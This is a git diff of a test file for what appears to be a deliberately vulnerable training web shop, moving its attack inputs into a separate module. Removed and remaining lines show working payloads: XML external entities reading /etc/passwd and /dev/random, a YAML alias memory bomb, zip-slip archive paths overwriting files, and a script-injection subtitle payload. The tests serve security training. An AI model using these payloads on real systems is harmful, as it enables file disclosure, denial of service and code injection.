@@ -4,24 +4,18 @@ import request from 'supertest'
 import { afterEach, describe, expect, it } from 'vitest'
 import { paths } from '../../paths'
 import { expectResponsiveDuring } from '../../testing/responsiveness'
+import { filesAttacks, PASSWD_XXE, SUBTITLES_ENTRY } from './files.attacks'
 import { shopWithFiles, upload, zipOf } from './files.testing'
 
 let shop: ReturnType<typeof shopWithFiles>
 afterEach(() => shop?.cleanUp())
 const solved = (key: Parameters<typeof shop.ctx.training.isSolved>[0]) => shop.ctx.training.isSolved(key)
 
-const PASSWD_XXE = '<?xml version="1.0"?><!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><order>&xxe;</order>'
-const RANDOM_XXE = '<?xml version="1.0"?><!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///dev/random">]><order>&xxe;</order>'
-const HARMLESS_XML = '<?xml version="1.0"?><order><item>apple juice</item></order>'
-
-/** The classic alias bomb: nine levels, each nine times the one before. */
-const YAML_BOMB = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
-  ...'bcdefghi'.split('').map((name, level) => `${name}: &${name} [${Array(9).fill(`*${'abcdefghi'[level]}`).join(',')}]`)].join('\n')
 
 describe('uploadSizeChallenge (Upload Size)', () => {
   it('is solved by a file over the 100 kB the web app allows', async () => {
     shop = shopWithFiles()
-    expect((await upload(shop.app, 'invoice.pdf', Buffer.alloc(150_000, 'a'))).status).toBe(204)
+    expect((await filesAttacks.uploadSizeChallenge(shop.app)).status).toBe(204)
     expect(solved('uploadSizeChallenge')).toBe(true)
   })
 
@@ -35,7 +29,7 @@ describe('uploadSizeChallenge (Upload Size)', () => {
 describe('uploadTypeChallenge (Upload Type)', () => {
   it('is solved by a file type the web app does not offer', async () => {
     shop = shopWithFiles()
-    expect((await upload(shop.app, 'tool.exe', 'MZ not really a program')).status).toBe(204)
+    expect((await filesAttacks.uploadTypeChallenge(shop.app)).status).toBe(204)
     expect(solved('uploadTypeChallenge')).toBe(true)
   })
 
@@ -49,7 +43,7 @@ describe('uploadTypeChallenge (Upload Type)', () => {
 describe('deprecatedInterfaceChallenge (Deprecated Interface)', () => {
   it('is solved by uploading a B2B XML order', async () => {
     shop = shopWithFiles()
-    expect((await upload(shop.app, 'order.xml', HARMLESS_XML)).status).toBe(410)
+    expect((await filesAttacks.deprecatedInterfaceChallenge(shop.app)).status).toBe(410)
     expect(solved('deprecatedInterfaceChallenge')).toBe(true)
   })
 
@@ -64,7 +58,7 @@ describe('deprecatedInterfaceChallenge (Deprecated Interface)', () => {
 describe('xxeFileDisclosureChallenge (XXE Data Access)', () => {
   it('is solved when an external entity pulls /etc/passwd into the answer', async () => {
     shop = shopWithFiles()
-    const result = await expectResponsiveDuring(shop.app, () => upload(shop.app, 'order.xml', PASSWD_XXE).set('Accept', 'application/json'))
+    const result = await expectResponsiveDuring(shop.app, () => filesAttacks.xxeFileDisclosureChallenge(shop.app))
     expect(result.status).toBe(410)
     expect(result.body.error.message).toContain('root:x:0:0:')
     expect(solved('xxeFileDisclosureChallenge')).toBe(true)
@@ -72,7 +66,7 @@ describe('xxeFileDisclosureChallenge (XXE Data Access)', () => {
 
   it('is not solved by harmless XML, nor by entities pointing at the network', async () => {
     shop = shopWithFiles()
-    await upload(shop.app, 'order.xml', HARMLESS_XML)
+    await filesAttacks.deprecatedInterfaceChallenge(shop.app)
     const remote = await upload(shop.app, 'remote.xml', '<?xml version="1.0"?><!DOCTYPE o [<!ENTITY x SYSTEM "http://127.0.0.1:9/passwd">]><o>&x;</o>').set('Accept', 'application/json')
     expect(remote.status).toBe(410)
     expect(solved('xxeFileDisclosureChallenge')).toBe(false)
@@ -89,7 +83,7 @@ describe('xxeFileDisclosureChallenge (XXE Data Access)', () => {
 describe('xxeDosChallenge (XXE DoS)', () => {
   it('is solved by an entity reading /dev/random, which is cut off with 503 while the shop keeps answering', async () => {
     shop = shopWithFiles()
-    const result = await expectResponsiveDuring(shop.app, () => upload(shop.app, 'order.xml', RANDOM_XXE))
+    const result = await expectResponsiveDuring(shop.app, () => filesAttacks.xxeDosChallenge(shop.app))
     expect(result.status).toBe(503)
     expect(solved('xxeDosChallenge')).toBe(true)
   })
@@ -104,7 +98,7 @@ describe('xxeDosChallenge (XXE DoS)', () => {
 describe('yamlBombChallenge (Memory Bomb)', () => {
   it('is solved by an alias bomb, which is cut off with 503 while the shop keeps answering', async () => {
     shop = shopWithFiles()
-    const result = await expectResponsiveDuring(shop.app, () => upload(shop.app, 'order.yml', YAML_BOMB))
+    const result = await expectResponsiveDuring(shop.app, () => filesAttacks.yamlBombChallenge(shop.app))
     expect(result.status).toBe(503)
     expect(solved('yamlBombChallenge')).toBe(true)
   })
@@ -121,7 +115,7 @@ describe('fileWriteChallenge (Arbitrary File Write)', () => {
   it('is solved by a zip slip entry that overwrites ftp/legal.md (in the shop data folder)', async () => {
     shop = shopWithFiles()
     const original = readFileSync(join(paths.ftp, 'legal.md'), 'utf8')
-    expect((await upload(shop.app, 'evidence.zip', zipOf({ '../../ftp/legal.md': 'all rights reversed' }))).status).toBe(204)
+    expect((await filesAttacks.fileWriteChallenge(shop.app)).status).toBe(204)
     expect(solved('fileWriteChallenge')).toBe(true)
     expect(readFileSync(join(shop.ctx.dataFolder, 'zip-slip', 'ftp', 'legal.md'), 'utf8')).toBe('all rights reversed')
     expect(readFileSync(join(paths.ftp, 'legal.md'), 'utf8')).toBe(original)
@@ -139,29 +133,24 @@ describe('fileWriteChallenge (Arbitrary File Write)', () => {
 })
 
 describe('videoXssChallenge (Video XSS)', () => {
-  const SUBTITLES = '../../frontend/dist/frontend/assets/public/videos/owasp_promo.vtt'
-  const PAYLOAD = 'WEBVTT\n\n00:00.000 --> 00:01.000\n</script><script>alert(`xss`)</script>'
-
   it('is solved when /promotion is opened after an archive replaced its subtitles with the payload', async () => {
     shop = shopWithFiles()
-    await upload(shop.app, 'evidence.zip', zipOf({ [SUBTITLES]: PAYLOAD }))
-    expect(solved('videoXssChallenge')).toBe(false)
-    await request(shop.app).get('/promotion')
+    const promotion = await filesAttacks.videoXssChallenge(shop.app)
+    expect(promotion.text).toContain('</script><script>alert(`xss`)</script>')
     expect(solved('videoXssChallenge')).toBe(true)
   })
 
   it('is not solved by harmless subtitles, nor without the archive', async () => {
     shop = shopWithFiles()
     await request(shop.app).get('/promotion')
-    await upload(shop.app, 'evidence.zip', zipOf({ [SUBTITLES]: 'WEBVTT\n\n00:00.000 --> 00:01.000\nFresh juice!' }))
+    await upload(shop.app, 'evidence.zip', zipOf({ [SUBTITLES_ENTRY]: 'WEBVTT\n\n00:00.000 --> 00:01.000\nFresh juice!' }))
     await request(shop.app).get('/promotion')
     expect(solved('videoXssChallenge')).toBe(false)
   })
 
   it('is not reachable in safety mode: the archive is not unpacked', async () => {
     shop = shopWithFiles({ challenges: { safetyMode: 'enabled' } })
-    await upload(shop.app, 'evidence.zip', zipOf({ [SUBTITLES]: PAYLOAD }))
-    await request(shop.app).get('/promotion')
+    await filesAttacks.videoXssChallenge(shop.app)
     expect(solved('videoXssChallenge')).toBe(false)
   })
 })
